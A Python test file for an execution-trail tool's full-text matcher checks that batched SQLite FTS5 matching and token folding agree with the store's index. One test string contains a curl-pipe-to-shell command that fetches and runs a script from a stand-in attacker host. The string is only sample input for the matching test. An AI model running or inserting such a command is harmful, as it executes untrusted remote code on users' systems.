"""The fleet's ``--text`` check: SQLite FTS5 defined as the store's index, fed candidate texts in
batches; its hits and tokens are those of a store holding the same texts."""

from __future__ import annotations

import sqlite3

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exectrail.errors import UsageError
from exectrail.query.fulltext import TextMatcher
from exectrail.query.search import fts_query
from exectrail.store.searchindex import fts_definition

#: Letters with and without accents, digits, marks, separators and symbols of several scripts.
ALPHABET = st.sampled_from(list("abcXYZ019 /._-:=\"'*éÉüßçÅœΩωДж中文ـ١٢\u0301\u0305\u00a0\t½①ǅﬁİ🙂"))
WORDS = st.lists(st.text(ALPHABET, min_size=1, max_size=8), min_size=1, max_size=3)


def _store_hits(texts: list[str], words: list[str]) -> set[int]:
    """What a store's own index finds: one row per text, the store's MATCH expression."""
    conn = sqlite3.connect(":memory:")
    try:
        conn.execute(fts_definition())
        conn.executemany("INSERT INTO events_fts(rowid, cmdline) VALUES (?, ?)", list(enumerate(texts, 1)))
        rows = conn.execute("SELECT rowid FROM events_fts WHERE events_fts MATCH ?", (fts_query(words),))
        return {row[0] - 1 for row in rows}
    finally:
        conn.close()


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(ALPHABET, max_size=30), max_size=12), WORDS, WORDS)
def test_batches_find_what_the_store_finds(texts: list[str], words: list[str], again: list[str]) -> None:
    try:
        expected = _store_hits(texts, words)
    except UsageError:
        with pytest.raises(UsageError):
            TextMatcher(words)
        return
    matcher = TextMatcher(words)
    try:
        assert matcher.hits(texts) == expected
        assert matcher.hits(list(reversed(texts))) == {len(texts) - 1 - i for i in expected}  # no leftovers
        assert [matcher.matches(t) for t in texts] == [i in expected for i in range(len(texts))]
    finally:
        matcher.close()


def test_tokens_are_folded_as_the_index_folds_them() -> None:
    matcher = TextMatcher(["/usr/Bin/CAFÉ*", "x86_64-linux"])
    assert matcher.tokens == ["usr", "bin", "cafe", "x86", "64", "linux"]
    line = "/bin/sh -c 'curl http://evil.example/x.sh | sh' /usr/bin/cafeteria x86_64-linux-gnu"
    assert matcher.matches(line)
    assert not matcher.matches("/usr/bin x86_64")
    matcher.close()
    with pytest.raises(UsageError):
        TextMatcher(["--", "*"])
